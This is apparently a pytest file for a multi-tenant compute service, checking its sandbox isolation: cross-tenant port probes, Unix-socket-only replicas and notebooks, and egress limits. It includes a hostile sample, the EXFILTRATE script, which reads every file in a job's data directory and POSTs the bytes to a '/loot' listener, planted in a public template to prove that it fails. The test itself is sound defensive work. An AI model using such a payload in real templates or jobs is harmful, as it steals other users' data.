"""Every port a job or a replica opens is hostile: from tenant B's job, on the real server with
the bubblewrap sandbox (local executor), no connection reaches a port tenant A's job listens on,
A's service replica or a listener on the machine's loopback; the server's port inside the job
is its route to the S3 endpoint alone (test_job_route_hostile.py), and with the route off
nothing answers there either; a gang of one
job still meets at its MASTER_ADDR:MASTER_PORT, an elastic job's grown replica at its
rendezvous (which B's job does not reach), and the server still reaches A's replica (after a
restart too). A's public template run by B sends nothing out, and egress is the center's
default and ceiling. A sandboxed replica or notebook has no TCP port on the machine at all:
the gateway, the portal's notebook proxy and the loops reach it through its Unix socket (0600
in a 0700 directory of its run directory), and without a sandbox it listens on TCP as before.

Each job prints one `PROBE name ok|refused` line per target; the test's own listener also counts
what it accepted, so a probe that succeeds is seen on both sides."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any, Protocol
from urllib.parse import urlsplit

import httpx
import pytest

from aicc.executors import netns
from aicc.services.jobs import endpoints
from aicc.store.db import Database
from aicc.testing import templates
from aicc.testing.deployments import deploy
from aicc.testing.isolation import Listener, listening
from aicc.testing.jobs import submit, wait_state
from aicc.testing.polling import wait
from aicc.testing.servers import free_port, in_process, over_http
from aicc.testing.tenants import make_tenant

PROBE = """
import os, socket, sys
for item in sys.argv[1:]:
    name, host, port = item.split("=", 1)[0], *item.split("=", 1)[1].rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
        print("PROBE", name, "ok", flush=True)
    except OSError as exc:
        print("PROBE", name, "refused", type(exc).__name__, flush=True)
"""

LISTEN = """
import os, socket, sys
port = int(os.environ.get("PORT") or sys.argv[1])
host = os.environ.get("AICC_SERVICE_HOST", "127.0.0.1")
server = socket.create_server((host, port))
print("listening", port, flush=True)
while True:
    conn, _ = server.accept()
    conn.recv(65536)
    conn.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 7\\r\\n\\r\\nA-reply")
    conn.close()
"""

GANG = """
import os, socket, time
addr, port = os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"])
if os.environ["RANK"] == "0":
    server = socket.create_server((addr, port))
    server.settimeout(60)
    conn, _ = server.accept()
    print("rank 0 got", conn.recv(16).decode(), flush=True)
else:
    for _ in range(600):
        try:
            conn = socket.create_connection((addr, port), timeout=1)
            break
        except OSError:
            time.sleep(0.1)
    conn.sendall(b"hello-rank-0")
    print("rank 1 reached", addr, flush=True)
"""

RENDEZVOUS = """
import os, socket, time
host, port = os.environ["PET_RDZV_ENDPOINT"].rsplit(":", 1)
if os.environ["AICC_REPLICA"] == "0":
    server = socket.create_server((host, int(port)))
    print("listening", port, flush=True)
    while True:
        conn, _ = server.accept()
        print("rendezvous from", conn.recv(16).decode(), flush=True)
        conn.close()
else:
    for _ in range(600):
        try:
            conn = socket.create_connection((host, int(port)), timeout=1)
            break
        except OSError:
            time.sleep(0.1)
    conn.sendall(os.environ["PET_LOCAL_ADDR"].encode())
    print("grown replica reached", host, flush=True)
    time.sleep(600)
"""


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as opened:
        yield opened


def _python(script: str, *args: str) -> list[str]:
    return ["python", "-c", script, *args]


def _holder_ended(home: Path, job_id: str) -> bool:
    """Whether the holder of the job's namespace (netns.py) is gone, within 10 s."""
    holder = next((home / "runs" / job_id / "net").glob("*/holder.json"))
    pid = json.loads(holder.read_text())["pid"]
    deadline = time.monotonic() + 10
    while Path(f"/proc/{pid}").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    return not Path(f"/proc/{pid}").exists()


def _wait_log(api: httpx.Client, job_id: str, text: str, timeout: float = 90) -> str:
    deadline = time.monotonic() + timeout
    while True:
        log = api.get(f"/api/v1/jobs/{job_id}/logs").text
        if text in log:
            return log
        job = api.get(f"/api/v1/jobs/{job_id}").json()
        assert job["state"] not in ("failed", "cancelled", "succeeded"), (job, log)
        assert time.monotonic() < deadline, f"{job_id} never printed {text!r}: {log}"
        time.sleep(0.2)


def test_a_job_of_tenant_b_reaches_no_port_of_the_server_tenant_a_or_the_machine(
    tmp_path: Path, listener: Listener
) -> None:
    """0 of 4 connections succeed from B's job (the server's port too, where the route to its
    S3 endpoint is off), the test's listener accepts 0, and the server (in the machine's
    network) still reaches A's service replica through its forwarder's socket."""
    with over_http(tmp_path / "home", job_s3_route=False) as (url, token, _state):
        api = httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"})
        a, b = make_tenant(api, "net-a").headers, make_tenant(api, "net-b").headers
        resources = {"cpu": 0.25, "memory": "128MiB"}
        a_port = free_port()
        job_a = submit(api, {"command": _python(LISTEN, str(a_port)), "resources": resources}, **a)
        service = submit(
            api, {"kind": "service", "command": _python(LISTEN), "resources": resources}, **a
        )
        try:
            _wait_log(api, job_a["id"], "listening")
            line = _wait_log(api, service["id"], "listening").split()
            service_port = int(line[line.index("listening") + 1])
            # The server's side: A's replica answers through the forwarder's Unix socket.
            assert _through_socket(_state, service["id"]) == "A-reply"

            server_port = urlsplit(url).port
            targets = {
                "server": f"127.0.0.1:{server_port}",
                "tenant-a-job": f"127.0.0.1:{a_port}",
                "tenant-a-replica": f"127.0.0.1:{service_port}",
                "machine-listener": f"127.0.0.1:{listener.port}",
            }
            argv = _python(PROBE, *(f"{k}={v}" for k, v in targets.items()))
            job_b = submit(api, {"command": argv, "resources": resources}, **b)
            done = wait_state(api, job_b["id"], {"succeeded", "failed"}, timeout=120)
            log = api.get(f"/api/v1/jobs/{job_b['id']}/logs").text
            assert done["state"] == "succeeded", log
            reached = [name for name in targets if f"PROBE {name} ok" in log]
            refused = [name for name in targets if f"PROBE {name} refused" in log]
            assert (reached, len(refused)) == ([], 4), log
            assert listener.accepted == 0
        finally:
            for job in (job_a, service):
                api.post(f"/api/v1/jobs/{job['id']}/cancel")
                wait_state(api, job["id"], {"cancelled", "failed"})


def test_an_elastic_jobs_rendezvous_is_its_own_grown_replicas_alone(tmp_path: Path) -> None:
    """A's elastic job grows, and its grown replica reaches the rendezvous at replica 0 from its
    own loopback address in the job's network; B's job reaches neither that port nor the grown
    replica's address."""
    with over_http(tmp_path / "home", limits={"grace_s": 2.0}) as (url, token, _state):
        api = httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"})
        a, b = make_tenant(api, "elastic-a").headers, make_tenant(api, "elastic-b").headers
        resources = {"cpu": 0.25, "memory": "128MiB"}
        spec = {
            "command": _python(RENDEZVOUS),
            "replicas": {"min": 1, "max": 2},
            "resources": resources,
        }
        job_a = submit(api, spec, **a)
        try:
            log_a = _wait_log(api, job_a["id"], "listening").split()
            port = log_a[log_a.index("listening") + 1]
            said = _wait_log(api, job_a["id"], "rendezvous from")
            assert "rendezvous from 127.0.0.2" in said, said  # replica 1's own address
            targets = {"rendezvous": f"127.0.0.1:{port}", "grown": f"127.0.0.2:{port}"}
            argv = _python(PROBE, *(f"{k}={v}" for k, v in targets.items()))
            job_b = submit(api, {"command": argv, "resources": resources}, **b)
            done = wait_state(api, job_b["id"], {"succeeded", "failed"}, timeout=120)
            log = api.get(f"/api/v1/jobs/{job_b['id']}/logs").text
            assert done["state"] == "succeeded", log
            assert [n for n in targets if f"PROBE {n} refused" in log] == list(targets), log
        finally:
            api.post(f"/api/v1/jobs/{job_a['id']}/cancel")
            wait_state(api, job_a["id"], {"cancelled", "failed"})


def test_a_gang_of_one_job_still_meets_at_its_master_address(tmp_path: Path) -> None:
    """Two replicas of one job share its namespace: rank 1 reaches rank 0's MASTER_PORT."""
    with over_http(tmp_path / "home") as (url, token, _state):
        api = httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"})
        spec = {"command": _python(GANG), "replicas": 2, "resources": {"cpu": 0.25}}
        job = submit(api, spec)
        done = wait_state(api, job["id"], {"succeeded", "failed"}, timeout=120)
        logs = [
            api.get(f"/api/v1/jobs/{job['id']}/logs", params={"replica": r}).text for r in (0, 1)
        ]
        assert done["state"] == "succeeded", logs
        assert logs == ["rank 0 got hello-rank-0\n", "rank 1 reached 127.0.0.1\n"]
        # Nothing of the namespace outlives the job: its holder ended with its replicas.
        assert _holder_ended(tmp_path / "home", job["id"])


EXFILTRATE = """
import os, socket
def _send_out():
    root = os.environ.get("AICC_DATA_DIR") or "."
    rows = b""
    for base, _, names in os.walk(root):
        for name in names:
            with open(os.path.join(base, name), "rb") as f:
                rows += f.read()
    body = b"POST /loot HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(rows) + rows
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(body)
        print("EXFILTRATED", len(rows), flush=True)
    except OSError as exc:
        print("EXFILTRATION FAILED", type(exc).__name__, flush=True)
_send_out()
_links = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
print("LINKS", " ".join(sorted(_links)), flush=True)
"""


def test_a_public_template_run_by_another_tenant_sends_nothing_out(tmp_path: Path) -> None:
    """A's public template whose train.py POSTs what it reads to a listener on the machine's
    loopback: B runs it where the center's egress is `internet`, yet the run has `egress: none`
    (no operator approved the template): no link but its loopback, and the listener accepts 0
    connections and receives 0 bytes. The publisher's own run gets the center's internet."""
    received: list[bytes] = []
    sock = socket.create_server(("127.0.0.1", 0))
    sock.settimeout(0.2)
    port = int(sock.getsockname()[1])
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                conn, _ = sock.accept()
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(1 << 20) or b"<connected>")
                conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        with in_process(tmp_path / "home", egress="internet") as (api, _state):
            publisher = make_tenant(api, "exfil-publisher", role="org_admin")
            runner = make_tenant(api, "exfil-runner")
            files = templates.own("mean-out")
            files["train.py"] = EXFILTRATE.replace("{port}", str(port)) + files["train.py"]
            body = {"files": files, "visibility": "public"}
            made = api.post("/api/v1/templates", json=body, headers=publisher.headers)
            assert made.status_code == 201, made.text
            run = api.post("/api/v1/templates/mean-out/runs", json={}, headers=runner.headers)
            assert run.status_code == 201, run.text
            job_id = run.json()["job_id"] if "job_id" in run.json() else run.json()["id"]
            assert run.json()["spec"]["egress"] == "none"  # shown before it runs
            wait_state(api, job_id, {"succeeded", "failed"}, timeout=120)
            log = api.get(f"/api/v1/jobs/{job_id}/logs", headers=runner.headers).text
            assert "EXFILTRATION FAILED" in log and "LINKS lo\n" in log, log
            own = api.post("/api/v1/templates/mean-out/runs", json={}, headers=publisher.headers)
            assert own.status_code == 201 and own.json()["spec"]["egress"] == "internet"
    finally:
        stop.set()
        thread.join(5)
        sock.close()
    assert (len(received), sum(map(len, received))) == (0, 0)


def test_egress_is_the_centers_default_and_its_ceiling(tmp_path: Path) -> None:
    """Where the center says `none`, a job shows `egress: none` before it runs and one asking
    `internet` is a 422 naming the field; where it says `internet`, a job reaches out through
    slirp4netns (a default route on tap0) and still neither the machine's loopback nor its own
    address (where a server listening on 0.0.0.0 answers): nftables in the job's namespace
    rejects private ranges and the node's addresses."""
    listener = Listener()
    anywhere = Listener("0.0.0.0")
    node = next(
        (a for a in netns.node_addresses() if ":" not in a and not a.startswith("127.")), None
    )
    try:
        with in_process(tmp_path / "closed") as (api, _state):
            job = submit(api, {"command": "true", "resources": {"cpu": 0.25}})
            assert job["spec"]["egress"] == "none"
            asked = api.post("/api/v1/jobs", json={"command": "true", "egress": "internet"})
            assert asked.status_code == 422 and "egress" in asked.json()["detail"], asked.text
        with in_process(tmp_path / "open", egress="internet") as (api, _state):
            probes = [f"machine-listener=127.0.0.1:{listener.port}"]
            probes += [f"node-address={node}:{anywhere.port}"] if node else []
            argv = _python(PROBE + ROUTES, *probes)
            job = submit(api, {"command": argv, "resources": {"cpu": 0.25}})
            assert job["spec"]["egress"] == "internet"
            done = wait_state(api, job["id"], {"succeeded", "failed"}, timeout=120)
            log = api.get(f"/api/v1/jobs/{job['id']}/logs").text
            assert done["state"] == "succeeded", log
            assert "PROBE machine-listener refused" in log and "DEFAULT tap0" in log, log
            assert node is None or "PROBE node-address refused" in log, log
    finally:
        listener.close()
        anywhere.close()
    assert listener.accepted == 0 and anywhere.accepted == 0


ROUTES = """
for line in open("/proc/net/route").read().splitlines()[1:]:
    if line.split()[1] == "00000000":
        print("DEFAULT", line.split()[0], flush=True)
"""


def test_a_restarted_server_still_reaches_a_replica_in_its_namespace(tmp_path: Path) -> None:
    """The forwarder lives with the replica, not with the server: after the server is gone and
    another starts on the same home, A's service answers through the same socket; cancelled,
    nothing of its namespace is left (its holder ended) and the socket answers no more."""
    home = tmp_path / "home"
    with in_process(home, keep_replicas=True) as (api, state):
        service = submit(api, {"kind": "service", "command": _python(LISTEN)})
        _wait_log(api, service["id"], "listening")
        path = _endpoint(state, service["id"]).socket
    with in_process(home) as (api, state):
        assert _endpoint(state, service["id"]).socket == path
        assert _through_socket(state, service["id"]) == "A-reply"
        api.post(f"/api/v1/jobs/{service['id']}/cancel")
        wait_state(api, service["id"], {"cancelled", "failed"})
    assert _holder_ended(home, service["id"])
    assert path is not None
    with pytest.raises(httpx.ConnectError), endpoints.reachable(path) as short:
        _get(short, "http://127.0.0.1/")


# --- replicas and notebooks: reached by the server's account alone, through a Unix socket


class _State(Protocol):
    @property
    def db(self) -> Database: ...


def _endpoint(state: _State, job_id: str) -> endpoints.Endpoint:
    with state.db.reader() as session:
        found = [e for e in endpoints.of_job(session, job_id) if e.running]
    assert len(found) == 1, found
    return found[0]


def _get(uds: str, url: str, **kwargs: Any) -> httpx.Response:
    transport = httpx.HTTPTransport(uds=uds)
    with httpx.Client(transport=transport, timeout=10, trust_env=False) as client:
        return client.get(url, **kwargs)


def _through_socket(state: _State, job_id: str) -> str:
    """What the replica answers at `/` through its socket, as the server's account asks it."""
    found = _endpoint(state, job_id)
    assert found.socket is not None, found
    with endpoints.reachable(found.socket) as short:
        return _get(short, found.url + "/").text


def _tcp_listening(port: int) -> list[str]:
    """The machine's TCP listeners on `port`, any address (/proc/net/tcp and tcp6, state 0A)."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A" and int(local.rsplit(":", 1)[1], 16) == port:
                found.append(f"{table}: {local}")
    return found


def _only_through_its_socket(found: endpoints.Endpoint) -> None:
    """No process of the machine reaches the replica on TCP (no listener for its port, on any
    address), and its socket is the server's account's alone: 0600 in a 0700 directory."""
    port = urlsplit(found.url).port
    assert port is not None and found.socket is not None, found
    assert _tcp_listening(port) == []
    for host in {"127.0.0.1", urlsplit(found.url).hostname or "", _machine_address()}:
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection((host, port), timeout=3).close()
    sock, directory = os.stat(found.socket), os.stat(Path(found.socket).parent)
    assert stat.S_ISSOCK(sock.st_mode) and stat.S_IMODE(sock.st_mode) == 0o600
    assert stat.S_ISDIR(directory.st_mode) and stat.S_IMODE(directory.st_mode) == 0o700
    assert (sock.st_uid, directory.st_uid) == (os.getuid(), os.getuid())


def _machine_address() -> str:
    """The machine's own address on its network (not its loopback, where one is found)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
        probe.connect(("192.0.2.1", 9))  # no packet is sent: the route chooses the address
        return str(probe.getsockname()[0])
    return "127.0.0.1"


def _key(api: httpx.Client) -> str:
    made = api.post("/api/v1/keys", json={"name": "app"})
    assert made.status_code == 201, made.text
    return str(made.json()["secret"])


def _chat(url: str, key: str) -> httpx.Response:
    body = {"model": "chat", "messages": [{"role": "user", "content": "say hello to me"}]}
    headers = {"Authorization": f"Bearer {key}"}
    return httpx.post(f"{url}/v1/chat/completions", json=body, headers=headers, timeout=30)


def test_a_deployment_replica_answers_the_gateway_alone_through_its_socket(
    tmp_path: Path,
) -> None:
    """The gateway answers a chat through the replica's Unix socket (the deployments loop found
    it ready through it), while the test, a process of the machine outside any job, finds no
    TCP listener for the replica's port and is refused on 127.0.0.1 and the machine's address
    (where, before, any process got a chat answer with no key)."""
    with over_http(tmp_path / "home") as (url, token, state):
        api = httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"})
        chat = deploy(api, "chat")
        answer = _chat(url, _key(api))
        assert answer.status_code == 200, answer.text
        content = answer.json()["choices"][0]["message"]["content"]
        assert content.startswith("hello from the upstream")
        _only_through_its_socket(_endpoint(state, chat.jobs[0]))


def test_without_a_sandbox_a_replica_listens_on_tcp_as_before(tmp_path: Path) -> None:
    """`sandbox: off`: no namespace, so no socket; the replica binds its $PORT itself and the
    gateway reaches it there."""
    with over_http(tmp_path / "home", sandbox="off") as (url, token, state):
        api = httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"})
        chat = deploy(api, "chat")
        found = _endpoint(state, chat.jobs[0])
        assert found.socket is None
        assert _tcp_listening(urlsplit(found.url).port or 0) != []
        answer = _chat(url, _key(api))
        assert answer.status_code == 200, answer.text


def test_a_notebook_answers_the_portal_alone_through_its_socket(tmp_path: Path) -> None:
    """The owner's browser reaches JupyterLab's API and a kernel's websocket through the
    portal's proxy, and the culler reads its activity, all through the notebook's socket; no
    process of the machine reaches JupyterLab on TCP."""
    pytest.importorskip("jupyterlab", reason="pip install -e '.[notebooks]'")
    from fastapi.testclient import TestClient

    from aicc.loops.culling import Culler
    from aicc.loops.lease import Lease
    from aicc.services.jobs import notebooks

    with in_process(tmp_path / "home") as (api, state):
        owner = make_tenant(api, "nb-owner")
        made = api.post(
            "/api/v1/notebooks",
            json={"name": "lab", "resources": {"memory": "2Gi"}},
            headers=owner.headers,
        )
        assert made.status_code == 201, made.text
        job_id = made.json()["job_id"]
        browser = TestClient(api.app)
        browser.get("/sign-in")
        secret = owner.headers["Authorization"].split()[1]
        form = {"csrf": browser.cookies.get("aicc_csrf") or "", "token": secret}
        assert browser.post("/sign-in", data=form, follow_redirects=False).status_code == 303
        base = f"/notebooks/{job_id}"

        def status() -> dict[str, Any] | None:
            answer = browser.get(f"{base}/api/status")
            return answer.json() if answer.status_code == 200 else None

        assert "last_activity" in wait("JupyterLab through the proxy", status, timeout=90)
        kernel = browser.post(f"{base}/api/kernels", json={"name": "python3"})
        assert kernel.status_code == 201, kernel.text
        channels = f"{base}/api/kernels/{kernel.json()['id']}/channels"
        with browser.websocket_connect(channels) as ws:
            assert _execute(ws, "print(6 * 7)") == "42\n"
        with state.db.reader() as session:
            watched = notebooks.watched(session, state.sealer)
        assert [w.socket for w in watched] == [_endpoint(state, job_id).socket]
        culler = Culler(state.db, Lease(state.db, name="t", holder="t"), state.sealer, every=ONE)
        assert culler.last_activity(watched[0]) is not None
        _only_through_its_socket(_endpoint(state, job_id))
        assert api.delete("/api/v1/notebooks/lab", headers=owner.headers).status_code == 204


ONE = timedelta(seconds=1)


def _execute(ws: Any, code: str) -> str:
    """Run `code` on the kernel over its channels (Jupyter's JSON protocol); its stdout."""
    msg_id = uuid.uuid4().hex
    header = {"msg_id": msg_id, "username": "t", "session": uuid.uuid4().hex}
    header |= {"msg_type": "execute_request", "version": "5.3"}
    content = {"code": code, "silent": False, "store_history": False}
    message = {"header": header, "parent_header": {}, "metadata": {}, "content": content}
    ws.send_text(json.dumps({**message, "channel": "shell", "buffers": []}))
    out = []
    while True:
        got = json.loads(ws.receive_text())
        if got.get("parent_header", {}).get("msg_id") != msg_id:
            continue
        if got["msg_type"] == "stream":
            out.append(got["content"]["text"])
        if got["msg_type"] == "error":
            raise AssertionError(got["content"])
        if got["msg_type"] == "status" and got["content"]["execution_state"] == "idle":
            return "".join(out)
